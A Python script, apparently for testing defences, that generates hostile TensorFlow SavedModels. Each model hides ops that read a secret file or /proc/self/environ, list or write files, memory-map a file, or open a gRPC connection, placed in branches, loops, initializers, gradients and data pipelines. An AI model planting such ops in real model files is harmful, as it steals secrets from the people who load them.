"""Hostile SavedModels: every op that reaches out, in every place where a graph hides ops.

    python hostile_saved_models.py FOLDER SECRET OWNED PORT

writes a SavedModel for each pair of a reach and a place into FOLDER, as `reads in a branch`.
It imports TensorFlow; nothing of the models is run here.
"""

import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Reach = Callable[[], Any]
"""Reaches out while it runs; returns a float32 scalar that depends on it."""


def make_reaches(tf: Any, secret: str, owned: str, port: str) -> dict[str, Reach]:
    """Return the ways to reach out of a graph."""
    raw = tf.raw_ops

    def after(*operations: Any) -> Any:
        with tf.control_dependencies(list(operations)):
            return tf.constant(1.0)

    def length(text: Any) -> Any:
        return tf.cast(tf.strings.length(tf.strings.reduce_join(text)), tf.float32)

    def first(dataset: Any) -> Any:
        return length(dataset.take(1).get_single_element())

    return {
        "reads": lambda: length(raw.ReadFile(filename=secret)),
        "reads the environment": lambda: length(raw.ReadFile(filename="/proc/self/environ")),
        "writes": lambda: after(raw.WriteFile(filename=f"{owned}/x", contents="owned")),
        "lists": lambda: length(raw.MatchingFiles(pattern=f"{Path(secret).parent}/*")),
        "reads lines": lambda: first(tf.data.TextLineDataset(secret)),
        "saves": lambda: after(
            raw.SaveV2(
                prefix=f"{owned}/s", tensor_names=["a"], shape_and_slices=[""], tensors=[1.0]
            )
        ),
        "prints into a file": lambda: after(
            raw.PrintV2(input="owned", output_stream=f"file://{owned}/p", end="")
        ),
        "connects": lambda: first(
            tf.data.Dataset.range(1)
            .apply(
                tf.data.experimental.service.distribute(
                    "parallel_epochs", f"grpc://127.0.0.1:{port}", data_transfer_protocol="grpc"
                )
            )
            .map(tf.strings.as_string)
        ),
        "maps a file": lambda: tf.cast(
            raw.ImmutableConst(dtype=tf.uint8, shape=[8], memory_region_name=secret)[0], tf.float32
        ),
    }


def make_places(tf: Any) -> dict[str, Callable[[Any, Reach], Any]]:  # noqa: C901  # a table
    """Return the places of a graph: each adds to a module what runs a reach."""

    def in_the_signature(_module: Any, reach: Reach) -> Any:
        return lambda x: x + reach()

    def in_a_function(_module: Any, reach: Reach) -> Any:
        return tf.function(lambda x: x + reach())

    def in_a_branch(_module: Any, reach: Reach) -> Any:
        return lambda x: tf.cond(tf.size(x) > 0, lambda: x + reach(), lambda: x)

    def in_a_loop(_module: Any, reach: Reach) -> Any:
        return lambda x: tf.while_loop(
            lambda i, _: i < 1, lambda i, y: (i + 1, y + reach()), (0, x)
        )[1]

    def in_a_case(_module: Any, reach: Reach) -> Any:
        return lambda x: tf.switch_case(tf.shape(x)[0] * 0, [lambda: x + reach(), lambda: x])

    def in_a_map(_module: Any, reach: Reach) -> Any:
        return lambda x: tf.map_fn(lambda row: row + reach(), x)

    def in_a_pipeline(_module: Any, reach: Reach) -> Any:
        def run(x: Any) -> Any:
            dataset = tf.data.Dataset.range(1).map(lambda _: reach())
            return x + dataset.get_single_element()

        return run

    def in_an_initializer(module: Any, reach: Reach) -> Any:
        class Resource(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
            def __init__(self) -> None:
                super().__init__(device="CPU")

            def _create_resource(self) -> Any:
                return tf.raw_ops.HashTableV2(
                    key_dtype=tf.string, value_dtype=tf.int64, shared_name="e"
                )

            def _initialize(self) -> Any:
                return reach()

        module.resource = Resource()
        return lambda x: x * 2.0

    def in_a_gradient(_module: Any, reach: Reach) -> Any:
        @tf.custom_gradient  # type: ignore[untyped-decorator]
        def evil(x: Any) -> Any:
            return x * 2.0, lambda dy: dy * reach()

        def run(x: Any) -> Any:
            with tf.GradientTape() as tape:
                tape.watch(x)
                y = evil(x)
            return tape.gradient(y, x)

        return run

    return {
        name.replace("_", " "): place for name, place in locals().items() if name.startswith("in_")
    }


def main(folder: Path, secret: str, owned: str, port: str) -> None:
    """Write a model for each pair; those that TensorFlow cannot save are left out."""
    import tensorflow as tf

    for reach_name, reach in make_reaches(tf, secret, owned, port).items():
        for place_name, place in make_places(tf).items():
            module = tf.Module()
            try:
                _save(tf, module, place(module, reach), folder / f"{reach_name} {place_name}")
            except Exception as error:  # noqa: BLE001  # a pair that does not exist
                print(f"{reach_name} {place_name}: {str(error)[:200]}", file=sys.stderr)


def _save(tf: Any, module: Any, run: Any, folder: Path) -> None:
    spec = tf.TensorSpec([None, 4], tf.float32, name="x")
    module.f = tf.function(lambda x: {"y": run(x)}, input_signature=[spec])
    signatures = {"serving_default": module.f.get_concrete_function()}
    tf.saved_model.save(module, str(folder), signatures)


if __name__ == "__main__":
    main(Path(sys.argv[1]), *sys.argv[2:5])
